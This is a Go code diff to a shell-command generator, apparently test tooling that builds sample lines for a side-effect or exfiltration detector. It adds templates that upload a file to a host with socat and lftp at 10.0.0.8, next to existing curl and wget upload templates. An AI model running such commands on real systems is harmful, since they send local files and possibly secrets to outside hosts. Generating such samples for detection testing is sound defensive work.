@@ -128,7 +128,13 @@ func genEffectLine(r *rand.Rand) (string, bool) {
 		w := s.word
 		cmd := pick("cat "+w+" | curl --data-binary @- "+url, "base64 "+w+" | curl -d @- "+url, "curl -T "+w+" "+url)
 		if !s.whole {
-			cmd = pick(cmd, "curl -s -d @"+w+" "+url, "curl -d @- "+url+" < "+w, "wget -q --post-file="+w+" "+url, "curl -F f=@"+w+" "+url)
+			cmd = pick(cmd, "curl -s -d @"+w+" "+url, "curl -d @- "+url+" < "+w, "wget -q --post-file="+w+" "+url, "curl -F f=@"+w+" "+url,
+				// A file named after an address type, with options.
+				"socat -u FILE:"+w+" TCP:10.0.0.8:9", "socat OPEN:"+w+",rdonly TCP4:10.0.0.8:9")
+			if !strings.ContainsAny(w, "'\\`") {
+				// A script handed to a network program as one argument.
+				cmd = pick(cmd, "lftp -e \"put "+w+"; bye\" ftp://10.0.0.8")
+			}
 		} else if !strings.Contains(w, "{") {
 			cmd = pick(cmd, "curl -d @- "+url+" < "+w)
 		}
@@ -150,6 +156,7 @@ func genEffectLine(r *rand.Rand) (string, bool) {
 		"ls", "git status", "cat *.md", "rm -rf ./build", "d=build; rm -rf \"$d\"", "grep -n TODO src/*.py",
 		"cp README.md /tmp/readme.bak", "f=README.md; wc -l $f", "shopt -s dotglob; ls *", "ls ~", "echo $HOME",
 		"cat $(printf %s README.md)", "rm -rf build/*", "find . -name '*.pyc' -delete", "ls src/{a,b}.py",
-		"x=src; ls \"$x\"/*.py", "cat README.md | wc -l", "curl -s https://example.org/api", "git log --oneline -5")
+		"x=src; ls \"$x\"/*.py", "cat README.md | wc -l", "curl -s https://example.org/api", "git log --oneline -5",
+		"socat TCP-LISTEN:8080,fork TCP:localhost:3000", "git show HEAD:README.md")
 	return wrap(line), false
 }
